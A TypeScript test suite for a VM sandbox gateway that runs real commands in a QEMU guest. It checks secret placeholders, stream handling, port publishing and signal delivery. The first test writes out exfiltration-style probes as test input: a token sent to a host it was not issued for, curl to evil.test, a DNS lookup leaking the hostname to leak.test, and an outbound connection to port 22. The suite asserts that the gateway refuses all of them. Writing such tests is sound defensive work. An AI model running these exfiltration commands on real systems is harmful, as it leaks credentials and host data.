/** The main job in virtual machines: a real guest, real curl in it, through the built command line. */
import { spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { copyFileSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
import type http from 'node:http';
import { type AddressInfo, connect, createServer } from 'node:net';
import { basename, join } from 'node:path';
import { text } from 'node:stream/consumers';
import { setTimeout as delay } from 'node:timers/promises';
import { ensureDefaultImage, ensureGuestFiles } from '../../src/vm/qemu/index.js';
import { guestHome } from '../vm/qemu/stage.js';
import { bodyOf, expectInvariants, facts, Stage } from './stage.js';

const TOKEN = 'ghp_real+token/value=0123456789';
const NAME = 'api.example.test';
const stage = new Stage();
const requests: { readonly path: string; readonly authorization: string; readonly body: Buffer }[] = [];
const BULK = randomBytes(32 << 20);

async function answer(request: http.IncomingMessage, response: http.ServerResponse): Promise<void> {
  const body = await bodyOf(request);
  requests.push({ path: request.url ?? '', authorization: request.headers.authorization ?? '', body });
  response.end(request.url === '/bulk' ? BULK : `ok ${request.url}\n`);
}

beforeAll(async () => {
  const home = guestHome();
  await ensureGuestFiles(home);
  await ensureDefaultImage(home);
  // One kernel for all tests: making it is a download.
  const state = join(stage.place.dir, 'state');
  mkdirSync(state);
  symlinkSync(join(home, 'guest'), join(state, 'guest'));
  await stage.https(NAME, (request, response) => void answer(request, response));
  await stage.https('other.example.test', (request, response) => void answer(request, response));
  stage.env.TOKEN = TOKEN;
  stage.flags.push('--secret', `TOKEN@${NAME}`);
});
afterAll(() => stage.close());
beforeEach(() => {
  requests.length = 0;
});

const VM = ['--vm', '--accel', 'tcg', '--memory', '256'];

test('the upstream gets the value, the guest holds a placeholder, what is refused is told and reaches nothing', async () => {
  const { code, stdout, stderr, events } = await stage.sh(
    `echo "$TOKEN"
    curl -sS -H "Authorization: Bearer $TOKEN" https://${NAME}/user
    curl -6 -sS https://${NAME}/six
    curl -sS -H "X-Key: $TOKEN" https://other.example.test/leak; echo
    curl -sS https://evil.test/ 2>&1
    nslookup "$(hostname).leak.test" >/dev/null 2>&1; echo "dns $?"
    curl -sS --max-time 5 telnet://93.184.216.34:22 2>&1
    ping -c 1 -W 1 8.8.8.8 2>&1 | tail -1
    cat /proc/cmdline; ls /run/sallyport; exit 9`,
    { flags: VM },
  );
  expect(code).toBe(9);
  const [placeholder] = stdout.split('\n');
  expect(placeholder).toMatch(/^GWPH_[0-9a-f]{32}$/);
  expect(stdout).toContain('ok /user\nok /six\n');
  expect(stdout).toContain('"error":"ErrSecretLeak"');
  expect(stdout).toContain('Could not resolve host: evil.test');
  expect(stdout).toContain('dns 1');
  expect(stdout).toMatch(
    /(Failed|Could not|Couldn't) connect to .*93\.184\.216\.34|Failed to connect to 93\.184\.216\.34/,
  );
  expect(requests.map(({ path, authorization }) => [path, authorization])).toEqual([
    ['/user', `Bearer ${TOKEN}`],
    ['/six', ''],
  ]);
  expect(stdout + stderr + JSON.stringify(events)).not.toContain(TOKEN);
  expect(stdout).not.toMatch(/PRIVATE KEY|ca-key/);
  expectInvariants(events);
  expect(events.map(({ type }) => type)).toEqual(
    expect.arrayContaining([
      'exec.started',
      'exec.done',
      'request.done',
      'dns.refused',
      'secret.leak',
      'flow.refused',
    ]),
  );
  expect(facts(events, 'flow.refused').map(({ host, port }) => `${host} ${port}`)).toContain(
    '93.184.216.34 22',
  );
});

test('standard input, output and errors are streams, and much goes both ways unchanged', async () => {
  const digest = createHash('sha256').update(BULK).digest('hex');
  const { code, stdout, stderr } = await stage.sh(
    `cat >/tmp/in; wc -c </tmp/in; echo to stderr >&2
    curl -sS https://${NAME}/bulk >/tmp/bulk && sha256sum </tmp/bulk
    curl -sS -T /tmp/bulk https://${NAME}/up; kill -TERM $$`,
    { flags: [...VM, '--quiet'], input: 'x'.repeat(1_000_000) },
  );
  expect(stdout).toBe(`1000000\n${digest}  -\nok /up\n`);
  expect(stderr).toBe('to stderr\n');
  expect(code).toBe(143);
  expect(
    createHash('sha256')
      .update(requests.at(-1)?.body ?? '')
      .digest('hex'),
  ).toBe(digest);
});

test('a machine without a network has no interface, and one past the gateway is refused', async () => {
  const { stdout } = await stage.sh('ls /sys/class/net; cat /etc/resolv.conf', {
    flags: [...VM, '--network', 'disabled'],
  });
  expect(stdout).toBe('lo\n');
  const bridged = await stage.sh('true', { flags: [...VM, '--network', 'bridged'] });
  expect(bridged.code).toBe(125);
  expect(bridged.stderr).toContain('--network bridged would put the machine past the gateway');
});

test('a command that is not there and one that is none have the codes of a shell', async () => {
  const { code, events } = await stage.run(['no-such-program'], { flags: VM });
  expect(code).toBe(127);
  // What never began is not told as begun.
  expect(events.filter(({ type }) => type.startsWith('exec.'))).toEqual([]);
});

/** Without the modules of perl, the numbers of its system calls' arguments. */
const ECHO =
  'socket(S,2,2,17);bind(S,pack("Sna4x8",2,7002,"\\0"x4));$|=1;print "up\\n";while(defined($p=recv(S,$m,999,0))){send(S,"echo $m",0,$p)}';

/** A port that nobody has at the moment. */
async function freePort(): Promise<number> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  server.close();
  await once(server, 'close');
  return port;
}

test('published ports lead into the machine: TCP with each half by itself, UDP; and a folder of the host is there', async () => {
  const folder = stage.place.file('unused', '').replace(/unused$/, 'programs');
  mkdirSync(folder);
  const libraries = spawnSync('ldd', ['/usr/bin/perl'], { encoding: 'utf8' }).stdout.matchAll(/(\/\S+) \(/g);
  for (const path of ['/usr/bin/perl', ...Array.from(libraries, ([, path = '']) => path)])
    copyFileSync(path, join(folder, basename(path)));
  const [tcp, udp] = [await freePort(), await freePort()];
  const ports = ['--publish', `${tcp}:7001`, '--publish', `127.0.0.1:${udp}:7002/udp`];
  const script = `cd /workspace/programs && LD_LIBRARY_PATH=. ./perl -e '${ECHO}' & nc -l -p 7001 -e wc -c; wait`;
  const child = stage.start(script, [...VM, '--quiet', ...ports, '--volume', `${folder}:programs:ro`]);
  try {
    await new Promise(resolve => child.stdout.once('data', resolve));
    const datagrams = createSocket('udp4');
    datagrams.connect(udp, '127.0.0.1');
    await once(datagrams, 'connect');
    const answer = once(datagrams, 'message');
    datagrams.send('hello');
    expect(String((await answer)[0])).toBe('echo hello');
    datagrams.close();
    const socket = connect({ host: '127.0.0.1', port: tcp, allowHalfOpen: true });
    socket.end(Buffer.alloc(1_000_000));
    expect((await text(socket)).trim()).toBe('1000000');
  } finally {
    const ended = once(child, 'close');
    child.kill('SIGTERM');
    await ended;
  }
});

/** Of this test's state folder. */
function machines(): readonly number[] {
  return readdirSync('/proc')
    .filter(name => /^\d+$/.test(name))
    .map(Number)
    .filter(pid => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(stage.place.dir);
      } catch {
        return false; // it ended while we looked
      }
    });
}

test('kill -9 of the gateway leaves no process of the machine', async () => {
  const child = stage.start('echo up; sleep 1000', VM);
  await new Promise(resolve => child.stdout.once('data', resolve));
  expect(machines().length).toBeGreaterThan(1);
  child.kill('SIGKILL');
  for (let waited = 0; waited < 100 && machines().length > 0; waited += 1) await delay(100);
  expect(machines()).toEqual([]);
});

test('a signal reaches the command in the machine', async () => {
  const child = stage.start("trap 'echo caught; exit 4' TERM; echo up; while :; do sleep 0.1; done", VM);
  const ended = new Promise(resolve => child.once('close', resolve));
  let shown = '';
  child.stdout.on('data', chunk => {
    shown += String(chunk);
    if (shown === 'up\n') child.kill('SIGTERM');
  });
  expect(await ended).toBe(4);
  expect(shown).toBe('up\ncaught\n');
  // Neither of this run, nor of the one that was killed before it.
  expect(readdirSync(join(stage.place.dir, 'state', 'run'))).toEqual([]);
});
